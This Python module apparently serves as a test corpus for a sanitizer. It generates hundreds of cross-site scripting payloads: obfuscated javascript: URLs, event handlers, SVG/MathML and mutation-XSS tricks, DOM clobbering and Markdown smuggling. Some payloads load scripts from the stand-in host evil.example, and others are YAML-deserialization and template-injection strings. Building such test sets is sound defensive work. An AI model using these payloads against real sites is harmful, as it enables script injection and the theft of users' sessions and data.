"""Hostile texts, family by family: what is meant to run, and the ways it is dressed and carried in.

Whatever runs calls `alert`, sets the document's title or asks another host for something: a browser that watches these
three sees it.
"""

from __future__ import annotations

from itertools import cycle
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

RUN = "alert(1)"

# Elements that run, load, navigate, restyle or end what is around them.
_ELEMENTS = [
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT >", "<script/x>{run}</script/x>",
    "<script\x0c>{run}</script\t\n>", "<script src=//evil.example/x.js></script>",
    "<script type=module>{run}</script>", "<scr<script>ipt>{run}</script>", "<script>{run}",
    "<<script>{run}//<</script>", "<script <b>{run}</script>", "\x00<scr\x00ipt>{run}</script>",
    "<iframe src=javascript:{run}></iframe>", "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<frameset onload={run}><frame src=javascript:{run}></frameset>", "<object data=javascript:{run}></object>",
    "<object data='data:text/html,<script>{run}</script>'>", "<embed src=javascript:{run}>", "<applet code=x>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=x>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<meta http-equiv=Set-Cookie content=x=1>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<button form=x formaction=javascript:{run}>x</button>", "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}><option>x</select>", "<keygen onfocus={run}>",
    "<textarea autofocus onfocus={run}></textarea>", "<isindex action=javascript:{run}>", "<marquee onstart={run}>x",
    "<video src=x onerror={run}></video>", "<audio><source src=x onerror={run}></audio>", "<img src=x onerror={run}>",
    "<picture><source srcset=//evil.example/x><img src=x onerror={run}></picture>", "<image src=x onerror={run}>",
    "<img src=x onerror={run}//", "<img/src=x/onerror={run}>", "<img src=`x`onerror={run}>",
    "<bgsound src=//evil.example>", "<details open ontoggle={run}><summary>x</summary></details>",
    "<dialog open><a href=javascript:{run}>x</a></dialog>", "<body onload={run}>", "<html onclick={run}>",
    "<head><title>x</title>", "<table background=javascript:{run}>", "<a href=javascript:{run}>x</a>",
    "<a href='jav&#x61;script:{run}'>x</a>", "<a ping=//evil.example href=x>x</a>", "<area href=javascript:{run}>",
    "<map name=x><area shape=default href=javascript:{run}></map><img usemap=#x>",
    "<layer src=javascript:{run}></layer>", "<xml id=x>", "<portal src=//evil.example>",
    "<x-own onclick={run}>x</x-own>", "<b is=x-own onclick={run}>x</b>", "<slot onslotchange={run}>", "<plaintext>",
    "<xmp><script>{run}</script></xmp>",
]  # fmt: skip

_EVENTS = [
    "onabort", "onafterprint", "onanimationend", "onanimationstart", "onauxclick", "onbeforeinput", "onbeforetoggle",
    "onblur", "oncanplay", "onclick", "oncontextmenu", "oncopy", "ondblclick", "ondragstart", "onerror", "onfocus",
    "onfocusin", "onhashchange", "oninput", "onkeydown", "onload", "onloadstart", "onmessage", "onmousedown",
    "onmouseenter", "onmousemove", "onmouseover", "onpageshow", "onpaste", "onplay", "onpointerdown",
    "onpointerenter", "onpointerover", "onpopstate", "onresize", "onscroll", "onscrollend", "onselectstart", "onshow",
    "onsubmit", "ontoggle", "ontouchstart", "ontransitionend", "onunload", "onwebkitanimationstart", "onwheel",
    "ONCLICK", "oNmOuSeOvEr",
]  # fmt: skip
_EVENT_CARRIERS = [
    "<p {event}={run}>x</p>", "<b {event}='{run}' tabindex=0>x</b>", "<a href=https://a.example {event}={run}>x</a>",
    '<i\n{event}\n=\n"{run}">x</i>', "<p/{event}={run}>x", "<em x='\"' {event}={run}>x</em>",
    "<li {event}\x0c={run}>x", '[x](https://a.example/"{event}="{run})',
    "[x](https://a.example/ \"t' {event}='{run}\")", "[x](https://a.example/ '\" {event}=\"{run}')",
    '![" {event}={run} "](https://a.example/x.png)', "<https://a.example/'{event}='{run}>",
    'https://a.example/"{event}="{run}', '```"{event}="{run}\nx\n```',
    "[x]: https://a.example/ '\"{event}=\"{run}'\n\n[x]",
]  # fmt: skip

_SCHEMES = [
    "javascript", "vbscript", "livescript", "mocha", "data", "feed", "view-source", "blob", "filesystem", "file",
    "jar", "about", "ws", "ftp", "tel", "intent", "ms-help", "mk", "x-javascript", "chrome", "web+x", "post",
]  # fmt: skip
_BODIES = {
    "data": "text/html,<script>parent.alert(1)</script>",
    "feed": f"javascript:{RUN}",
    "view-source": f"javascript:{RUN}",
}
_DISGUISES: dict[str, Callable[[str], str]] = {
    "plain": lambda s: f"{s}:",
    "mixed case": lambda s: "".join(c.upper() if i % 2 else c for i, c in enumerate(s)) + ":",
    "a tab within": lambda s: f"{s[:2]}\t{s[2:]}:",
    "a line break within": lambda s: f"{s[:2]}\n{s[2:]}:",
    "a carriage return within": lambda s: f"{s[:2]}\r{s[2:]}:",
    "a control before": lambda s: f"\x01{s}:",
    "NUL within": lambda s: f"{s[:2]}\x00{s[2:]}:",
    "a space before": lambda s: f" \x1f {s}:",
    "a no-break space before": lambda s: f"\u00a0{s}:",
    "decimal references": lambda s: "".join(f"&#{ord(c)};" for c in s) + ":",
    "long hex references": lambda s: "".join(f"&#x{ord(c):07X};" for c in s) + "&#x3A;",
    "references without an end": lambda s: "".join(f"&#{ord(c)}" for c in s) + "&#58",
    "named references": lambda s: f"{s[:2]}&Tab;{s[2:]}&NewLine;&colon;",
    "references twice": lambda s: f"&amp;#{ord(s[0])};{s[1:]}&amp;colon;",
    "percent": lambda s: f"%{ord(s[0]):x}{s[1:]}:",
    "percent for the colon": lambda s: f"{s}%3a",
    "a backslash": lambda s: f"{s[:2]}\\{s[2:]}\\:",
    "a zero-width space within": lambda s: f"{s[:2]}\u200b{s[2:]}:",
    "a soft hyphen within": lambda s: f"{s[:2]}\u00ad{s[2:]}:",
    "wide letters": lambda s: "".join(chr(ord(c) + 0xFEE0) if c.isalpha() else c for c in s) + ":",
    "a wide colon": lambda s: f"{s}\uff1a",
    "an escape of JSON": lambda s: f"\\u{ord(s[0]):04x}{s[1:]}:",
}  # fmt: skip
_LINK_CARRIERS = [
    "[x]({url})", "[x](<{url}>)", "![x]({url})", "<{url}>", "[x]\n\n[x]: {url}", "[x]: <{url}>\n\n![x]", "{url}",
    "[x]({url} 'title')", "[![x]({url})]({url})", "<a href='{url}'>x</a>", "<img src='{url}'>", "[x](  {url}  )",
]  # fmt: skip

_STYLES = [
    "<style>*{{background:url(//evil.example/x)}}</style>", "<style>@import '//evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0;z-index:9'>x</p>", "<p style=width:expression({run})>x</p>",
    "<p style='background:url(javascript:{run})'>x</p>",
    "<p style='behavior:url(#x);-moz-binding:url(//evil.example/x)'>x",
    "<p style='b\\61ckground:url(//evil.example/x)'>x</p>", "<p style=\"content:url(//evil.example/x)\">x</p>",
    "<p style='animation:x' onanimationstart={run}>x</p>",
    "<link rel=stylesheet href='data:text/css,*{{color:red}}'>", "<style><!--</style><script>{run}//--></script>",
    "<style>@\\69mport '//evil.example'</style>", "<p class='post by-author'>x",
    "<font color=\"red;background:url(//evil.example/x)\">x</font>", "<style onload={run}></style>",
    "<p id=_content>x</p>", "<STYLE TYPE=text/javascript>{run}</STYLE>", "<br style=x:\\65xpression({run})>",
    "<p style=\"x:'</p><script>{run}</script>'\">x",
]  # fmt: skip

# SVG and MathML: their own ways to run, and the seams between them and HTML.
_FOREIGN = [
    "<svg onload={run}>", "<svg><script>{run}</script></svg>", "<svg><script href='data:,{run}'/></svg>",
    "<svg><script>a&#108;ert(1)</script></svg>", "<svg><a xlink:href=javascript:{run}><text y=9>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:{run} />",
    "<svg><a><animate attributeName=href values=javascript:{run} /><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{run}</script></svg>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:{run}></iframe></foreignObject></svg>",
    "<svg><image href=x onerror={run} />", "<svg><style>*{{fill:url(//evil.example/x)}}</style></svg>",
    "<svg><desc><img src=x onerror={run}></desc></svg>", "<svg><title><img src=x onerror={run}></title></svg>",
    "<svg><handler type=text/javascript>{run}</handler></svg>", "<svg><discard onbegin={run}>", "<svg/onload={run}//",
    "<svg><p><style><img src=x onerror={run}></style>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction></math>",
    "<math href=javascript:{run}>x</math>", "<math><mi xlink:href='data:x,<script>{run}</script>'>x</mi></math>",
    "<math><annotation-xml encoding=text/html><script>{run}</script>",
    "<math><semantics><annotation-xml><svg><style><img src=x onerror={run}></style>",
    "<math><mtext><script>{run}</script></math>",
]  # fmt: skip

# What is one tree when it is parsed, and another when that tree is written down and parsed again.
_MUTATIONS = [
    "<{raw}><p title=\"</{raw}><img src=x onerror={run}>\"></{raw}>",
    "<{raw}><!--</{raw}><img src=x onerror={run}>-->", "<svg></p><{raw}><a id=\"</{raw}><img src=1 onerror={run}>\">",
    "<math><{raw}><![CDATA[</{raw}><img src=x onerror={run}>]]>",
    "<math><mtext><table><mglyph><{raw}><!--</{raw}><img title=\"--&gt;&lt;img src=1 onerror={run}&gt;\">",
    "<form><math><mtext></form><form><mglyph><{raw}></math><img src onerror={run}>",
    "<table><{raw}><tr><img src=x onerror={run}></table>",
]  # fmt: skip
_RAW = [
    "style", "noscript", "title", "textarea", "template", "xmp", "noembed", "noframes", "iframe", "select", "script",
]  # fmt: skip
_SINGLE_MUTATIONS = [
    "<!--><img src=x onerror={run}>-->", "<!---><img src=x onerror={run}>-->",
    "<!-- --!><img src=x onerror={run}> -->", "<!-- x --><!--> <img src=x onerror={run}> -->",
    "<!DOCTYPE x [<!ENTITY y '<script>{run}</script>'>]>&y;", "<?x <img src=x onerror={run}>?>",
    "<![CDATA[<img src=x onerror={run}>]]>", "<svg><![CDATA[><img src=x onerror={run}>]]></svg>",
    "<!><img src=x onerror={run}>", "</p></div></article></li></ol></section></main><script>{run}</script>",
    "</{x}><img src=x onerror={run}>", "<%<img src=x onerror={run}>%>",
    "<table><td><a><table><td><a><img src=x onerror={run}></table></a></table>",
    "<select><option><img src=x onerror={run}></select>",
    "<table><caption><svg><title><table><caption></caption></table><img src=x onerror={run}>",
    "<p><svg><p><b><style></p><img src=x onerror={run}>",
    "<a><a><a><form><form><button><button><nobr><nobr><img src=x onerror={run}>",
    "<b><p></b><i></p></i><img src=x onerror={run}>", "<frameset><frame onload={run}>",
    "<dl><dt><dd><select><keygen><svg><desc><dd><img src=x onerror={run}>", "&lt;img src=x onerror={run}&gt;",
    "<img src=x onerror&#61;{run}>", "<img src='x\"onerror={run} '>", "<a title='x`><script>{run}</script>`'>x",
    "<ol><li><ruby><rt><rp></ol><img src=x onerror={run}>",
]  # fmt: skip

_CLOBBERING = [
    "<a id={name}>x</a>", "<a name={name}>x</a>", "<form name={name}><input name=action></form>",
    "<img name={name} src=x>", "<iframe name={name} srcdoc=x></iframe>", "<object id={name} name={name}></object>",
    "<a id={name}><a id={name} name=y href=x>", "<embed name={name}>", "[x](#{name}){{#{name}}}", "# x {{#{name}}}",
]  # fmt: skip
_NAMES = [
    "document", "location", "body", "forms", "cookie", "getElementById", "_content", "_comments", "c-1", "__proto__",
    "constructor",
]  # fmt: skip

_MARKDOWN = [
    "[<img src=x onerror={run}>](https://a.example)", "![<script>{run}</script>](https://a.example/x.png)",
    "`</code><script>{run}</script>`", "[`</a><script>{run}</script>`](https://a.example)",
    "```\"><script>{run}</script>\nx\n```", "~~~ x\n</code></pre><script>{run}</script>\n~~~",
    "    </code></pre><script>{run}</script>", "# <script>{run}</script>", "<script>{run}</script>\n===",
    "> <script>\n> {run}\n> </script>", "1. <script>{run}</script>\n   <b onclick={run}>",
    "- x\n\n      <script>{run}</script>", "\\<script>{run}\\</script>", "**<b onclick={run}>x**</b>",
    "| a |\n|---|\n| <script>{run}</script> |", "| a |\n|:-\" onclick={run} |\n| x |",
    "x[^1]\n\n[^1]: <script>{run}</script>", "x[^\"onclick={run}]\n\n[^\"onclick={run}]: y",
    "[x][<img src=x onerror={run}>]\n\n[<img src=x onerror={run}>]: https://a.example",
    "[x]: https://a.example/\"><script>{run}</script>\n\n[x]", "[x](https://a.example/\"><script>{run}</script>)",
    "[x](https://a.example/<script>{run}</script>)", "https://a.example/\"><script>{run}</script>",
    "https://a.example/<img src=x onerror={run}>", "<https://a.example/><script>{run}</script>",
    "<mailto:a@b.example?subject=<script>{run}</script>>", "[x](//evil.example/x.js) ![x](//evil.example/x.png)",
    "[x](\\\\evil.example)", "[x](?x#y) [y](../../../) [z]()", "[x](javascript&colon;{run} \"javascript:{run}\")",
    "[a](https://a.example)[b](javascript:{run})[c](https://c.example)", "[x\n](javascript:{run}\n)",
    "[[x](javascript:{run})](javascript:{run})", "~~<del onclick={run}>~~", "*x*{{: onclick={run}}}",
    "[x](https://a.example){{onclick={run}}}", "&#60;script&#62;{run}&#60;/script&#62;",
    "&amp;lt;script&amp;gt;{run}", "\ufeff<script>{run}</script>", "<scri\u00adpt>{run}</script>",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e", "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "<!--more-->\n\n<script>{run}</script>", "x <!--more--> <img src=x onerror={run}>",
    "{{{{ 7*7 }}}}{{% include 'x' %}}<script>{run}</script>", "%(author)s {{0}} ${{{run}}} <%= {run} %>",
]  # fmt: skip


def _events() -> list[str]:
    carriers = cycle(_EVENT_CARRIERS)
    return [next(carriers).format(event=event, run=RUN) for event in _EVENTS * 2]


def _urls() -> list[str]:
    dressed = cycle(_DISGUISES.values())
    schemes = [(next(dressed), scheme) for scheme in _SCHEMES * 5]
    schemes += [(dress, scheme) for scheme in ("javascript", "data") for dress in _DISGUISES.values()]
    return [dress(scheme) + _BODIES.get(scheme, RUN) for dress, scheme in schemes]


def _links() -> list[str]:
    carriers = cycle(_LINK_CARRIERS)
    scripted = [carrier.format(url=f"javascript:{RUN}") for carrier in _LINK_CARRIERS]
    return scripted + [next(carriers).format(url=url) for url in _urls()]


FAMILIES: dict[str, list[str]] = {
    "elements": [text.format(run=RUN) for text in _ELEMENTS],
    "events": _events(),
    "schemes": _links(),
    "styles": [text.format(run=RUN) for text in _STYLES],
    "foreign": [text.format(run=RUN) for text in _FOREIGN],
    "mutations": [
        *(text.format(run=RUN, raw=raw) for text in _MUTATIONS for raw in _RAW),
        *(text.format(run=RUN, x="x") for text in _SINGLE_MUTATIONS),
    ],
    "clobbering": [text.format(name=name) for text in _CLOBBERING for name in _NAMES],
    "markdown": [text.format(run=RUN) for text in _MARKDOWN],
}

# What is put into a field that is one line: names, titles, languages, sources.
FIELDS = [
    f"<script>{RUN}</script>", f"\"><img src=x onerror={RUN}>", f"'><svg onload={RUN}>", f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}', f"</title><script>{RUN}</script>", f"</script><script>{RUN}</script>",
    "<!--<script>", "-->", "]]>", "&lt;script&gt;", "&quot;onclick=x", "%(author)s", "%(number)s %s %d %%",
    "{0} {author} {}", "{{ 7*7 }}", "{% raw %}", "${7*7}", "\\u003cscript\\u003e", "`x`", "x: y", "- x", "# x",
    "[x, y]", "{x: y}", "&a [*a]", "!!python/object:os.system", "|", ">", "? x", "---", "...", "@x", "*x", "x\\",
    "null", "true", "~", "0x1F", "12:30", "1e3", '"', "'", "''", "by: author", "<<<<<<< x", "\u202egnp.exe",
    "\u2066x", "x\u200fy", "\u061cx",
]  # fmt: skip
